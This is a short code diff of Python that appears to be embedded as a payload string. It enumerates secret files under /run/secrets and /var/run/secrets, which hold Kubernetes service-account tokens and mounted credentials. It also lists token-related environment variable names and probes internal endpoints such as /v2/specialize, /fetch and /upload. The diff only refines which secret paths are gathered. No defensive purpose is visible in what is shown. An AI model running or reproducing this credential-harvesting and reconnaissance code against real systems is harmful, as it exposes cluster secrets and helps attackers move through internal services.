@@ -94,7 +94,7 @@ def status(path):
         return urllib.request.urlopen(call, timeout=5).status
     except urllib.error.HTTPError as error:
         return error.code
-tokens = glob.glob("/var/run/secrets/**", recursive=True) + glob.glob("/run/secrets/**", recursive=True)
+tokens = [path for path in glob.glob("/run/secrets/**", recursive=True) + glob.glob("/var/run/secrets/**", recursive=True) if os.path.isfile(path)]
 named = [name for name in os.environ if "TOKEN" in name or name.startswith("KUBERNETES")]
 result = [tokens, named, status("/v2/specialize"), status("/_isotope/retire"), status("/fetch"), status("/upload")]
 `;
